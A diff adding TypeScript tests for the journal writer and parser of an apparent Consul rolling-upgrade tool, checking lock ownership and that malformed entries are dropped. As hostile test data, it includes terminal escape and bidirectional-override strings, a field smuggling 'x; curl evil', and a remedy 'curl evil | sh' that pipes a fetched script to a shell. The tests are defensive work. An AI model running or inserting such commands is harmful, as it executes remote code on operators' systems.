@@ -188,6 +188,23 @@ describe('JournalWriter', () => {
   });
 });
 
+describe('JournalWriter of the run that holds the lock', () => {
+  it('writes over the late write of another run', async () => {
+    const engine = createFakeEngine(3);
+    const { intent } = buildMidRoll({ old: 3, new: 3, size: 3 });
+    const { leader } = engine.servers;
+    const own = { holder: engine.holder, rollId: intent.rollId, sinceMs: 5, renewedAtMs: 5, ttlMs: 30_000 };
+    await engine.servers.put('consul-roll/consul/lock', JSON.stringify(own));
+    const writer = new JournalWriter(engine, intent, 5, () => leader);
+    writer.record({ kind: 'started', intent, resumed: false, atMs: 5 });
+    await writer.close();
+    await engine.servers.put(KEY, formatJournal({ ...journalOf(1), holder: 'ops@there 2', sinceMs: 6 }));
+    writer.record({ kind: 'started', intent, resumed: true, atMs: 6 });
+    await writer.close();
+    expect(readJournal(engine)).toMatchObject({ holder: engine.holder, sinceMs: 5 });
+  });
+});
+
 describe('formatJournal', () => {
   it('keeps the latest entries', () => {
     const entries = parseJournal(formatJournal(journalOf(MAX_JOURNAL_ENTRIES + 20)))?.entries;
@@ -205,6 +222,9 @@ describe('formatJournal', () => {
 });
 
 describe('parseJournal', () => {
+  const MARGIN = { voters: 3, healthy: 3, quorum: 2, margin: 1 };
+  const COUNTS = { elapsedMs: 1, leaderChanges: 0 };
+  const endWith = (reason: unknown) => ({ outcome: 'stopped', reason, changed: 'cluster' });
   const whole = JSON.parse(formatJournal(journalOf(3)));
   const [first, second, third] = whole.entries;
 
@@ -224,10 +244,25 @@ describe('parseJournal', () => {
     ['with an unknown action', { ...second, step: { ...second.step, action: { kind: 'explode' } } }],
     ['with a field of its action missing', { ...second, step: { ...second.step, action: { kind: 'leave' } } }],
     ['with an escape sequence', { ...second, error: '\u001b]0;owned\u0007' }],
+    ['with text that reorders what is printed', { ...second, error: 'i-\u202e0a11' }],
+    ['with a number that no roll counts to', { ...second, n: Number.MAX_SAFE_INTEGER }],
+    ['with a size out of range', { ...second, step: { ...second.step, margin: { ...MARGIN, voters: 1e308 } } }],
+    [
+      'that ends with a command of its own',
+      { n: 2, kind: 'end', atMs: 1, end: endWith({ kind: 'old-group-gone', cluster: 'x; curl evil' }), ...COUNTS },
+    ],
     ['out of order', { ...second, n: 1 }],
     ['that is not an object', 'step'],
   ])('leaves out an entry %s', (_, entry) => {
     const value = JSON.stringify({ ...whole, entries: [first, entry, third] });
     expect(parseJournal(value)?.entries.map(({ n }) => n)).toEqual([1, 3]);
+  });
+
+  it('takes no remedy from a journal: a watcher would print it as the next command', () => {
+    const reason = { kind: 'step-failed', action: 'leave', message: 'no', times: 3, remedy: 'curl evil | sh' };
+    const end = { n: 2, kind: 'end', atMs: 1, end: endWith(reason), ...COUNTS };
+    const parsed = parseJournal(JSON.stringify({ ...whole, entries: [first, end] }))?.entries;
+    expect(parsed).toHaveLength(2);
+    expect(JSON.stringify(parsed)).not.toContain('evil');
   });
 });
